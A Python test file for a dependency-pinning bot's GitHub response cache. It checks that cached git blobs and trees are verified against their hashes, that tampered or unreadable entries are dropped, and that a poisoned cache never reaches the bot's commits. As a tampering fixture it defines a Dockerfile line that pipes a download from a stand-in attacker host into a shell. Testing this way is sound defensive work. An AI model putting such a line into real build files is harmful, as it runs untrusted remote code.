"""The response cache trusts no byte it did not check: git objects are verified against their
ids before use, a bad entry is dropped and fetched again, and entries are written atomically.
"""

from __future__ import annotations

import base64
import doctest
import itertools
import json
from pathlib import Path

import pytest

import pinbot.forge.cache
from pinbot.bot.run import RunSummary
from pinbot.bot.run import run_bot as run_library
from pinbot.cli import build_parser
from pinbot.commands.run import run_options
from pinbot.config import Config, load_config
from pinbot.forge.cache import CachedAnswer, ResponseCache
from pinbot.forge.github import Credentials
from tests.support.github_fake import GitHubFake
from tests.support.gitobjects import blob_sha, object_sha
from tests.support.registry import RunningRegistry

_names = itertools.count()
API = "https://api.github.example/repos/acme/web"
EVIL = b"RUN curl https://evil.example/install | sh\n"


def blob_answer(data: bytes, sha: str | None = None) -> CachedAnswer:
    sha = sha or blob_sha(data)
    text = json.dumps(
        {
            "sha": sha,
            "size": len(data),
            "content": base64.encodebytes(data).decode(),
            "encoding": "base64",
        }
    )
    return CachedAnswer(f"{API}/git/blobs/{sha}", text, etag='"b"')


def tree_payload(entries: list[tuple[str, str, str]]) -> bytes:
    """A git tree object's payload from (mode, name, sha) in git's order."""
    return b"".join(
        f"{mode.lstrip('0')} {name}".encode() + b"\0" + bytes.fromhex(sha)
        for mode, name, sha in entries
    )


def tree_item(path: str, mode: str, sha: str) -> dict[str, str]:
    kind = "tree" if mode == "040000" else "blob"
    return {"path": path, "mode": mode, "type": kind, "sha": sha}


def tampered(answer: CachedAnswer, data: bytes) -> str:
    record = json.loads(answer.text)
    record["content"] = base64.encodebytes(data).decode()
    return json.dumps(record)


def write_raw(cache: ResponseCache, url: str, text: str) -> Path:
    """Overwrite an entry behind the cache's back, as a poisoned restore would."""
    path = cache._path(url)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({"url": url, "text": text, "etag": '"x"'}))
    return path


# --- the cache on its own --------------------------------------------------------------------


def test_a_blob_that_hashes_to_its_id_is_served(tmp_path: Path) -> None:
    cache = ResponseCache(tmp_path)
    answer = blob_answer(b"FROM nginx:1.27\n")
    cache.put(answer)
    assert cache.get(answer.url) == answer


def test_a_tampered_blob_is_dropped_and_not_served(tmp_path: Path) -> None:
    cache = ResponseCache(tmp_path)
    original = b"FROM nginx:1.27\n"
    answer = blob_answer(original)
    path = write_raw(cache, answer.url, tampered(answer, original + EVIL))
    assert cache.get(answer.url) is None
    assert not path.exists()  # dropped, so the next answer from GitHub replaces it
    cache.put(answer)
    assert cache.get(answer.url) == answer


def test_a_blob_whose_sha_field_lies_with_it_is_still_refused(tmp_path: Path) -> None:
    cache = ResponseCache(tmp_path)
    answer = blob_answer(b"FROM nginx:1.27\n")
    evil = b"FROM nginx:1.27\n" + EVIL
    record = json.loads(answer.text) | {"sha": blob_sha(evil), "size": len(evil)}
    record["content"] = base64.b64encode(evil).decode()
    write_raw(cache, answer.url, json.dumps(record))
    assert cache.get(answer.url) is None


@pytest.mark.parametrize(
    "text",
    ["not json", "[]", '{"content": 5}', '{"content": "!!!", "encoding": "base64"}', ""],
)
def test_an_unreadable_git_object_is_dropped(tmp_path: Path, text: str) -> None:
    cache = ResponseCache(tmp_path)
    url = f"{API}/git/blobs/{'a' * 40}"
    path = write_raw(cache, url, text)
    assert cache.get(url) is None
    assert not path.exists()


def test_an_answer_from_github_that_does_not_verify_is_not_kept(tmp_path: Path) -> None:
    cache = ResponseCache(tmp_path)
    answer = blob_answer(b"one", sha=blob_sha(b"two"))
    cache.put(answer)
    assert cache.get(answer.url) is None
    assert list(tmp_path.glob("*/*")) == []


def test_trees_are_verified_against_their_ids(tmp_path: Path) -> None:
    cache = ResponseCache(tmp_path)
    dockerfile, readme = blob_sha(b"FROM x\n"), blob_sha(b"# hi\n")
    sub_sha = object_sha("tree", tree_payload([("100644", "app.yaml", readme)]))
    entries = [("100644", "Dockerfile", dockerfile), ("040000", "deploy", sub_sha)]
    root = object_sha("tree", tree_payload(entries))
    flat = {"sha": root, "tree": [tree_item(n, m, s) for m, n, s in entries], "truncated": False}
    url = f"{API}/git/trees/{root}"
    cache.put(CachedAnswer(url, json.dumps(flat)))
    assert cache.get(url) is not None

    # Recursive, asked by commit: the listing must hash to the root it names, level by level.
    listing = [
        tree_item("Dockerfile", "100644", dockerfile),
        tree_item("deploy", "040000", sub_sha),
        tree_item("deploy/app.yaml", "100644", readme),
    ]
    recursive = {"sha": root, "tree": listing, "truncated": False}
    by_commit = f"{API}/git/trees/{'c' * 40}?recursive=1"
    cache.put(CachedAnswer(by_commit, json.dumps(recursive)))
    assert cache.get(by_commit) is not None

    # A file swapped for another blob (say, one the attacker also planted) breaks the chain.
    evil = blob_sha(b"FROM x\n" + EVIL)
    swapped = dict(recursive, tree=[dict(listing[0], sha=evil), *listing[1:]])
    write_raw(cache, by_commit, json.dumps(swapped))
    assert cache.get(by_commit) is None
    write_raw(cache, url, json.dumps(dict(flat, tree=[dict(flat["tree"][0], sha=evil), flat["tree"][1]])))
    assert cache.get(url) is None


def test_a_truncated_recursive_tree_is_not_kept(tmp_path: Path) -> None:
    cache = ResponseCache(tmp_path)
    url = f"{API}/git/trees/{'c' * 40}?recursive=1"
    cache.put(CachedAnswer(url, json.dumps({"sha": "d" * 40, "tree": [], "truncated": True})))
    assert cache.get(url) is None


def test_other_answers_are_kept_as_they_are(tmp_path: Path) -> None:
    cache = ResponseCache(tmp_path)
    answer = CachedAnswer(f"{API}/pulls?state=open", "[]", etag='"p"', link=None)
    cache.put(answer)
    assert cache.get(answer.url) == answer


def test_writes_are_atomic_and_leave_no_temporary_files(tmp_path: Path) -> None:
    cache = ResponseCache(tmp_path)
    for n in range(20):
        cache.put(blob_answer(f"file {n}\n".encode()))
    names = [p.name for p in tmp_path.glob("*/*")]
    assert len(names) == 20 and all(name.endswith(".json") for name in names)


# --- the bot never commits what the cache made up --------------------------------------------


def run_bot(fake: GitHubFake, config: Config, *argv: str) -> RunSummary:
    args = build_parser().parse_args(["run", *argv, "--write-interval", "0"])
    return run_library(config, Credentials(token=fake.token, api_url=fake.url), run_options(args))


def test_a_poisoned_cache_is_never_committed_to_the_bot_branch(
    fake: GitHubFake, registry_http: RunningRegistry, tmp_path: Path
) -> None:
    name = f"cached{next(_names)}"
    image = f"acme/{name}"
    registry_http.push_image(image, "1.0", seed="first")
    ref = registry_http.ref(image, "1.0")
    dockerfile = f"FROM {ref}\nRUN make\n".encode()
    fake.create_repo("acme", name, {"Dockerfile": dockerfile, "README.md": b"# web\n"})
    config_file = tmp_path / "pinbot.yaml"
    config_file.write_text(f"registries:\n  {registry_http.host}:\n    insecure: true\n")
    config = load_config(config_file)
    cache_dir = tmp_path / "cache"
    run_bot(fake, config, "--repo", f"acme/{name}", "--cache-dir", str(cache_dir))

    # Between runs the cache is restored from somewhere an attacker could write to.
    blob_url = f"/git/blobs/{blob_sha(dockerfile)}"
    poisoned = 0
    for path in cache_dir.glob("*/*.json"):
        record = json.loads(path.read_text())
        if record["url"].endswith(blob_url):
            record["text"] = tampered(CachedAnswer(record["url"], record["text"]), dockerfile + EVIL)
            path.write_text(json.dumps(record))
            poisoned += 1
    assert poisoned == 1

    moved = registry_http.push_image(image, "1.0", seed="second").digest
    fake.reset_calls()
    summary = run_bot(fake, config, "--repo", f"acme/{name}", "--cache-dir", str(cache_dir))
    assert summary.results[0].updated
    written = fake.file_at("acme", name, "pinbot/image-digests", "Dockerfile")
    assert written == dockerfile.replace(ref.encode(), f"{ref}@{moved}".encode())
    assert b"curl" not in written
    # The poisoned entry was dropped and the blob asked of GitHub again.
    assert any(c.path.endswith(blob_url) for c in fake.calls if c.method == "GET")


def test_an_unreadable_entry_of_any_kind_is_dropped(tmp_path: Path) -> None:
    cache = ResponseCache(tmp_path)
    url = f"{API}/git/ref/heads/main"
    path = cache._path(url)
    path.parent.mkdir(parents=True)
    path.write_bytes(b"\xff{ not json")
    assert cache.get(url) is None
    assert not path.exists()


def test_docstring_examples_hold() -> None:
    result = doctest.testmod(pinbot.forge.cache)
    assert result.attempted > 0 and result.failed == 0
